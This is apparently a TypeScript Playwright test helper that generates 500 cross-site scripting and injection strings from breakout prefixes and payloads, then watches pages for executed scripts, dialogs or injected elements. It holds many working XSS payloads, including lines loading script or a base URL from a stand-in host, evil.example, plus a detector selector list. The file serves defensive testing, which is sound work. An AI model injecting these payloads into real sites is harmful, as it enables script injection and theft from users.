// Words that somebody might choose to do harm where they are shown, and a watch over pages that show them.

import type { Page } from 'playwright';

/** What is to break out of where the words stand. */
const outOf = [
  ...['', '"', "'", '>', '">', "'>", '`', '\\', '-->', ']]>', '}}', '*/', '</h1>', '</bdi>', '</title>'],
  ...['</script>', '</style>', '\u202e', '\u0000', '\ufeff'],
];

/** What is then to be done. None has over 60 bytes. */
const deeds = [
  '<script>struck=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=struck=1>',
  '<svg onload=struck=1>',
  '<iframe srcdoc="<script>parent.struck=1</script>">',
  '<iframe src=javascript:parent.struck=1>',
  '<object data=javascript:struck=1>',
  '<embed src=javascript:struck=1>',
  '<style>*{display:none}</style>',
  '<a href=javascript:struck=1>here</a>',
  '<form action=javascript:struck=1><button>here',
  '<input autofocus onfocus=struck=1>',
  '<video src=x onerror=struck=1>',
  '<marquee onstart=struck=1>',
  '<math><mi xlink:href=javascript:struck=1>',
  '<base href=//evil.example/>',
  '<!--',
  'javascript:struck=1//',
  'data:text/html,<script>struck=1</script>',
  '{{constructor.constructor("struck=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for those who would fill it in.
  '${struck=1}',
  '__proto__',
  '&lt;img src=x onerror=struck=1&gt;',
  '%3Cscript%3Estruck=1%3C/script%3E',
  'Z\u0335\u0321\u0322\u031b\u0300\u0315\u0345\u0339\u0353\u2029\u{1f469}\u200d\u{1f680}',
];

/** 500; each ends with its number, and fits a title. */
export const hostileWords: readonly string[] = outOf
  .flatMap((way) => deeds.map((deed) => `${way}${deed}`))
  .map((words, i) => `${words} ${i}`);

declare global {
  /** Set by any of the words that were run. */
  var struck: unknown;
  /** Elements that no page of ours has. */
  var foulElements: string[] | undefined;
  /** Numbers of the words that a heading showed. */
  var wordsInHeadings: Set<number> | undefined;
}

/** Call before the page is opened. Dialogs are left to open: {@link harmDone} tells of them. */
export async function watchOverWords(page: Page): Promise<{ harmDone(): Promise<string[]> }> {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.addInitScript(installWatch);
  return {
    async harmDone() {
      const inPage = await page.evaluate(() => [
        ...('struck' in globalThis ? ['words were run'] : []),
        ...(globalThis.foulElements ?? ['the page is not watched']),
      ]);
      return [...dialogs, ...inPage];
    },
  };
}

/** Refers to nothing outside itself: its text is sent into pages. */
function installWatch(): void {
  const foul = 'img, iframe, object, embed, style, base, marquee, math, script:not([src^="/assets/"])';
  const javascript = '[href^="javascript:"], [src^="javascript:"], [onload], [onerror], [onfocus]';
  const elements: string[] = [];
  const numbers = new Set<number>();
  globalThis.foulElements = elements;
  globalThis.wordsInHeadings = numbers;
  const look = (): void => {
    for (const { outerHTML } of document.querySelectorAll(`:is(${foul}, ${javascript})`)) {
      if (elements.length < 10) elements.push(outerHTML);
    }
    const [, number] = / (\d+)$/.exec(document.querySelector('h1')?.textContent ?? '') ?? [];
    if (number !== undefined) numbers.add(Number(number));
  };
  new MutationObserver(look).observe(document, { subtree: true, childList: true, characterData: true });
}
